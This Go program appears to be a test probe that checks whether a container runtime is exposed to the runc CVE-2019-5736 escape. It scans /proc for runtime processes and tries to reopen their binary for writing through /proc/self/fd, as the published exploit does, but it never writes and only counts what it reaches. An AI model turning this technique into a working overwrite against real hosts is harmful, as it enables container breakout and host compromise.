// attacker is the in-container half of runc CVE-2019-5736: it watches
// /proc for processes that appear in its PID namespace (the runtime's
// init during an exec is one, for a moment) and tries to open the binary
// each runs from, then to reopen it for writing once the process is gone,
// as the published exploit did. It only opens; it never writes.
//
// Its arguments after the duration are the runtime's binaries as
// DEV:INO (the host's numbers, which fstat inside reports alike). Any
// process whose binary is one of them and can be opened is printed as
// "RUNTIME"; one that then reopens for writing as "WRITABLE". A binary
// of another container of the pod (a shared PID namespace lets the pod's
// containers reach each other's files, by design) is only counted. The
// last line counts what it saw.
package main

import (
	"errors"
	"fmt"
	"io/fs"
	"os"
	"strconv"
	"syscall"
	"time"
)

func pids() []int {
	d, err := os.Open("/proc")
	if err != nil {
		return nil
	}
	defer d.Close()
	names, _ := d.Readdirnames(-1)
	var out []int
	for _, n := range names {
		if p, err := strconv.Atoi(n); err == nil {
			out = append(out, p)
		}
	}
	return out
}

func main() {
	dur, err := time.ParseDuration(os.Args[1])
	if err != nil {
		fmt.Println("usage: attacker DURATION")
		os.Exit(2)
	}
	var root syscall.Stat_t
	if err := syscall.Stat("/", &root); err != nil {
		fmt.Println(err)
		os.Exit(2)
	}
	runtime := map[string]bool{}
	for _, a := range os.Args[2:] {
		runtime[a] = true
	}
	self := os.Getpid()
	seen := map[int]bool{self: true}
	var fresh, denied, own, others, reached, writable int
	// try opens pid's binary, and reopens the runtime's for writing.
	try := func(p int) {
		f, err := os.Open(fmt.Sprintf("/proc/%d/exe", p))
		if err != nil {
			if errors.Is(err, fs.ErrPermission) {
				denied++
			}
			return
		}
		defer f.Close()
		var st syscall.Stat_t
		if syscall.Fstat(int(f.Fd()), &st) != nil || st.Dev == root.Dev {
			own++
			return
		}
		if !runtime[fmt.Sprintf("%d:%d", st.Dev, st.Ino)] {
			others++
			return
		}
		reached++
		fmt.Printf("RUNTIME pid %d dev %d ino %d\n", p, st.Dev, st.Ino)
		// The exploit's second step: the binary is busy while the
		// runtime runs it; once it exits, the open handle is reopened
		// for writing through /proc/self/fd.
		for i := 0; i < 100; i++ {
			w, err := os.OpenFile(fmt.Sprintf("/proc/self/fd/%d", f.Fd()), os.O_WRONLY, 0)
			if err == nil {
				fmt.Printf("WRITABLE pid %d dev %d ino %d\n", p, st.Dev, st.Ino)
				writable++
				w.Close()
				return
			}
			if !errors.Is(err, syscall.ETXTBSY) {
				return
			}
			time.Sleep(2 * time.Millisecond)
		}
	}
	// What runs already (pause, as PID 1 of a shared PID namespace).
	for _, p := range pids() {
		if !seen[p] {
			seen[p] = true
			try(p)
		}
	}
	for deadline := time.Now().Add(dur); time.Now().Before(deadline); {
		for _, p := range pids() {
			if seen[p] {
				continue
			}
			seen[p] = true
			fresh++
			try(p)
		}
	}
	fmt.Printf("fresh %d denied %d own %d others %d runtime %d writable %d\n", fresh, denied, own, others, reached, writable)
}
